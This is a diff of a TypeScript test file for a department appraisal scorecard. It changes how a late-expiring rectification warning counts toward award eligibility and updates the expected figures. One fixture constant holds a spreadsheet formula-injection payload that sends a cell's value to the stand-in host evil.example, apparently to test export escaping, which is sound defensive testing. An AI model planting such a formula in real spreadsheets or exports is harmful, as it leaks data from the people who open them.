@@ -19,7 +19,8 @@ import { evidenceMetrics, scorecardEvidence } from './evidence.ts';
 import { evidenceCsv, evidenceXlsx, scorecardCsv, scorecardTable, scorecardXlsx } from './export.ts';
 
 const PERIOD = '2025-10';
-// After the period: eligibility is judged at its end, 2025-11-01 00:00 Beijing = 2025-10-31T16:00Z.
+// After the period: its figures are counted at its end, 2025-11-01 00:00 Beijing = 2025-10-31T16:00Z, and
+// every warning's 15 days to rectify have run out (the last by 2025-11-16 00:00 Beijing).
 const NOW = new Date('2025-11-20T00:00:00.000Z');
 const rules = { version: 0, value: defaultAppraisalRules };
 const INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';
@@ -66,7 +67,7 @@ const appendFixture = async (e: Engine) => {
 
   // ── 住建局 D-ZJ ── one 非常满意, six 非常不满意 each raising a warning:
   //   z1 10-10 open (unrectified) · z2 10-11 rectified · z3 10-12 open · z4 10-13 never dispatched ·
-  //   z5 10-14 dispatched late, open · z6 10-25 open but still inside its 15 days at the period's end (pending).
+  //   z5 10-14 dispatched late, open · z6 10-25 open, its 15 days run out after the period's end (11-09).
   await rate(e.store, 'z-5', '2025-10-09T02:00:00.000Z', { overall: 5, subject: zj });
   const open = (id: string, at: string, ratingEventId: string, dispatchAfterMinutes = 30) =>
     appendWarning(
@@ -135,8 +136,9 @@ const expected = {
     onTimeReplyRate: { value: 1 / 5, numerator: 1, denominator: 5 },
     reopenings: 0,
     appealsUpheld: 0,
-    // In raise order: z1 U, z2 R (breaks), z3 U, z4 U, z5 U (run of 3 → 取消评先资格), z6 pending (15 days run to 11-09).
-    eligibility: { eligible: false, limit: 3, longestRun: 3, causes: ['zj-3', 'zj-4', 'zj-5'] },
+    // In raise order: z1 U, z2 R (breaks), z3 U, z4 U, z5 U (run of 3 → 取消评先资格), z6 U: judged when its
+    // 15 days ran out (11-09, before NOW), not at the period's end, where it would stay pending for good.
+    eligibility: { eligible: false, limit: 3, longestRun: 4, causes: ['zj-3', 'zj-4', 'zj-5', 'zj-6'] },
   },
 } as const;
 
@@ -190,20 +192,20 @@ for (const engine of engines('scorecard fixtures')) {
             reopenings: [row.reopenings, row.reopenings],
             appeals_upheld: [row.appealsUpheld, row.appealsUpheld],
             // Unrectified among the appraised warnings (pending ones count in neither).
-            award_eligible: row.unit === 'D-ZJ' ? [4, 5] : [1, 1],
+            award_eligible: row.unit === 'D-ZJ' ? [5, 6] : [1, 1],
           }[metric];
           expect([sum('numerator'), sum('denominator')], `${row.unit} ${metric}`).toEqual(figure);
         }
       }
       const cause = await scorecardEvidence(e.db, { unit: 'department', code: 'D-ZJ', period: PERIOD, metric: 'award_eligible', now: NOW, rules: rules.value });
-      expect(cause.warnings.filter((w) => w.causesIneligibility).map((w) => w.warningId)).toEqual(['zj-3', 'zj-4', 'zj-5']);
+      expect(cause.warnings.filter((w) => w.causesIneligibility).map((w) => w.warningId)).toEqual(['zj-3', 'zj-4', 'zj-5', 'zj-6']);
       expect(cause.warnings.map((w) => [w.warningId, w.rectification])).toEqual([
         ['zj-1', 'unrectified'],
         ['zj-2', 'rectified'],
         ['zj-3', 'unrectified'],
         ['zj-4', 'unrectified'],
         ['zj-5', 'unrectified'],
-        ['zj-6', 'pending'],
+        ['zj-6', 'unrectified'],
       ]);
     });
 
@@ -290,8 +292,9 @@ for (const engine of engines('scorecard fixtures')) {
         expect(result.activated).toBe(true);
       }
       const rebuilt = await appraisalScorecard(e.db, { unit: 'department', period: PERIOD, now: new Date('2026-01-05T00:00:00Z'), rules });
-      // A later clock changes nothing in a closed period's eligibility; the rates use the same `now`.
+      // A later clock changes nothing in a closed period whose warnings' deadlines have all passed.
       expect(rebuilt.rows.map((r) => r.eligibility)).toEqual(card.rows.map((r) => r.eligibility));
+      expect(rebuilt).toEqual(card);
       const same = await appraisalScorecard(e.db, { unit: 'department', period: PERIOD, now: NOW, rules });
       expect(same).toEqual(card);
       expect(scorecardCsv(same)).toBe(scorecardCsv(card));
